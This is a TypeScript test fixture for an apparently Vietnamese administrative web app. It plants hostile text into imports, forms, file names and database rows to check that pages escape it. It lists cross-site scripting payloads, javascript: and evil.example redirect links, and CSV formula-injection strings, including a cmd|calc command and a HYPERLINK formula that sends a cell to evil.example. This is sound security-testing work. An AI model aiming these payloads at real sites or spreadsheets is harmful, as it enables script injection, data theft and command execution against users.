import assert from 'node:assert/strict';
import { importAgencies } from '../../src/rooms/agencies/index.ts';
import type { EditionContent } from '../../src/rooms/editions/index.ts';
import { importPlan, readPlanFile } from '../../src/rooms/plans/index.ts';
import { commitImport } from '../../src/rooms/registers/index.ts';
import { sql } from '../../src/platform/database/index.ts';
import { AGENCY_HEADERS, agencyCells, cells, csvOf, dossiers, goodPlan } from './good-files.ts';
import type { World } from './world.ts';

/** Stands in every planted text, so that a test sees where they came out. */
export const TRACE = 'dau-vet-7412';

/** Texts that have run, or led away, on some page of some program. */
export const POISONS: readonly string[] = [
  `${TRACE}<script>window.stolen=1</script>`,
  `${TRACE}"><img src=x onerror="window.stolen=1">`,
  `${TRACE}' onmouseover='window.stolen=1' autofocus onfocus='window.stolen=1`,
  `${TRACE}</title></textarea></style></script><svg onload=window.stolen=1>`,
  `${TRACE}<iframe src="javascript:parent.stolen=1"></iframe><object data="//evil.example"></object>`,
  `${TRACE}<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">`,
  `${TRACE}<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/y.css>`,
  `${TRACE}<form action="//evil.example"><button>x</button></form><a href="javascript:window.stolen=1">x</a>`,
  `${TRACE}{{constructor.constructor('window.stolen=1')()}}\${window.stolen=1}<%= 7*7 %>`,
  `${TRACE}&lt;script&gt;window.stolen=1&lt;/script&gt;&#60;img src=x onerror=window.stolen=1&#62;`,
  `${TRACE}\u202e<\u200bscript>window.stolen=1</script>\u2028<!--[if IE]><script>window.stolen=1</script>`,
];

/** Texts that a spreadsheet would compute. */
export const FORMULAS: readonly string[] = [
  `=HYPERLINK("http://evil.example/?"&A1,"${TRACE}")`,
  `=cmd|' /C calc'!A0 ${TRACE}`,
  `+1+cmd ${TRACE}`,
  `-2+3+cmd ${TRACE}`,
  `@SUM(1+1) ${TRACE}`,
  `\t=1+1 ${TRACE}`,
  `＝1+1 ${TRACE}`,
  `＠SUM(1) ${TRACE}`,
  `'=1+1 ${TRACE}`,
  `=1;2 ${TRACE}`,
  `"=1+1" ${TRACE}`,
];

const all = [...POISONS, ...FORMULAS];
const one = (at: number): string => all[at % all.length] as string;

async function plantAgencies(w: World): Promise<void> {
  const rows = all.map((text, at) => agencyCells({ code: `GAI-${at}`, name: text }));
  const file = w.file('gài.csv', csvOf([[...AGENCY_HEADERS], ...rows]));
  const done = await w.acting(w.operator, (act) => importAgencies(act, { path: file, name: one(0) }));
  assert.ok(done.ok, JSON.stringify(done));
  assert.ok(done.value.counts.added > 10, JSON.stringify(done.value.counts));
}

/** Dossiers whose every free text is planted, sent as a browser sends them, under a planted file name. */
async function plantDossiers(w: World): Promise<{ run: string; refused: string }> {
  const lines = all.map((text, at) => cells({ code: `${text.slice(0, 90)} ${at}`, sector: text }));
  const send = async (content: string, name: string): Promise<string> => {
    const sent = await w.post('/ban-lam-viec/nhap-so-lieu/dossiers', [['tep', Buffer.from(content), name]]);
    assert.equal(sent.status, 303, sent.body.slice(0, 400));
    await w.workOff();
    return /lan-nhap\/(\d+)/.exec(String(sent.headers.location))?.[1] ?? '';
  };
  const run = await send(dossiers(lines), `${one(1).replaceAll('"', '')}.csv`);
  const done = await w.acting(w.operator, (act) => commitImport(act, Number(run), 'good-rows'));
  assert.ok(done.ok, JSON.stringify(done));
  const wrong = all.map((text, at) => cells({ code: text, agency: text, status: at % 2 ? text : 'Đã trả kết quả' }));
  return { run, refused: await send(dossiers(wrong), `${one(3).replaceAll('"', '')}.csv`) };
}

async function plantPlan(w: World): Promise<{ id: string; target: string }> {
  const poisoned = goodPlan
    .replace(/(MỤC TIÊU[^\n]*\n)/u, `$1${POISONS.join('\n')}\n`)
    .replaceAll('hồ sơ', `hồ sơ ${one(1)}`);
  const read = await readPlanFile(w.file('gài.txt', poisoned));
  assert.ok(read.ok, JSON.stringify(read));
  const { id } = await w.acting(w.operator, (act) => importPlan(act, read.value));
  const [target] = await w.database.query(sql<{ id: number }>`SELECT id FROM plans.target ORDER BY id LIMIT 1`);
  return { id: String(id), target: String(target?.id) };
}

/** Documents, links and files shown as evidence; answers the number of one. Addresses that would run are refused. */
async function plantEvidence(w: World): Promise<string> {
  const agency = await w.database.query(sql<{ id: number }>`SELECT id FROM agencies.agency ORDER BY id LIMIT 1`);
  const whose = String(agency[0]?.id ?? 1);
  const list = '/ban-lam-viec/tai-lieu-kiem-chung';
  for (const text of POISONS) {
    await w.post(`${list}/them-so-hieu`, [
      ['co-quan-vb', whose],
      ['so-hieu', text.slice(0, 80)],
      ['ngay', '31/12/2025'],
      ['noi-ban-hanh', text],
      ['ten-vb', text],
    ]);
    await w.post(`${list}/them`, [
      ['co-quan', whose],
      ['ten', text],
      ['tep', Buffer.from('a,b\r\n1,2\r\n'), `${text}.csv`],
    ]);
  }
  for (const address of [
    'javascript:window.stolen=1',
    'data:text/html,<script>1</script>',
    '//evil.example',
    'https://vi.du/?"><script>',
  ]) {
    await w.post(`${list}/them-duong-dan`, [
      ['co-quan-dd', whose],
      ['dia-chi', address],
      ['ten-dd', one(0)],
    ]);
  }
  const [item] = await w.database.query(sql<{ id: number }>`SELECT id FROM evidence.item ORDER BY id LIMIT 1`);
  return String(item?.id ?? 1);
}

/** Names of people, posts and tokens; the one who is signed in stands on every page of the desk. */
async function plantPeople(w: World): Promise<Record<string, string>> {
  await w.database.query(sql`UPDATE access.person SET name = ${POISONS[0]}`);
  await w.database.query(sql`UPDATE access.post SET title = ${POISONS[1]}`);
  await w.database.query(sql`UPDATE access.session SET agent = ${POISONS[2]}`);
  const [row] = await w.database.query(sql<{ person: string; post: number; holding: number }>`
    SELECT person, post_id AS post, id AS holding FROM access.holding ORDER BY id LIMIT 1`);
  return { person: row?.person ?? '1', post: String(row?.post ?? 1), holding: String(row?.holding ?? 1) };
}

/** Lets the signed-in person work in another of their posts. */
export async function changePost(w: World, role: string): Promise<void> {
  await w.database.query(sql`
    UPDATE access.session SET holding_id = (
      SELECT holding.id FROM access.holding JOIN access.post ON post.id = holding.post_id WHERE post.role = ${role} LIMIT 1)`);
}

/** Plants hostile texts wherever a file or a form can bring one; answers the parts of addresses under which they lie. */
export async function plant(w: World): Promise<Record<string, string>> {
  await plantAgencies(w);
  const { run, refused } = await plantDossiers(w);
  const { id, target } = await plantPlan(w);
  const record = {
    'gia.source': 'mot-cua',
    'gia.deciding_agency': 'SXD',
    'gia.received': '02/03/2026',
    'gia.status': 'open',
  };
  for (const text of POISONS.slice(0, 4)) {
    await w.post('/ban-lam-viec/ban-ghi/dossiers', [
      ...Object.entries({ ...record, 'gia.code': text.slice(0, 60), 'gia.sector': text, 'ly-do': text }),
      ['lan', ''],
    ]);
  }
  const item = await plantEvidence(w);
  const people = await plantPeople(w);
  return {
    ...people,
    item,
    register: 'dossiers',
    format: 'csv',
    token: 'x',
    file: 'co-quan.csv',
    run,
    refused,
    id,
    target,
  };
}

/** A text by chance of its place, the same for the same place. */
const at = (place: number): string => POISONS[place % POISONS.length] as string;

/** An edition whose every sentence and name is planted. */
export function poisonedContent(content: EditionContent): EditionContent {
  let place = 0;
  const poison = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((item) => poison(item, key));
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, poison(item, name)]));
    const text = ['vi', 'en', 'name', 'title', 'issuer', 'number', 'statement', 'text'].includes(key);
    return typeof value === 'string' && text ? `${value} ${at(place++)}` : value;
  };
  return poison(content, '') as EditionContent;
}
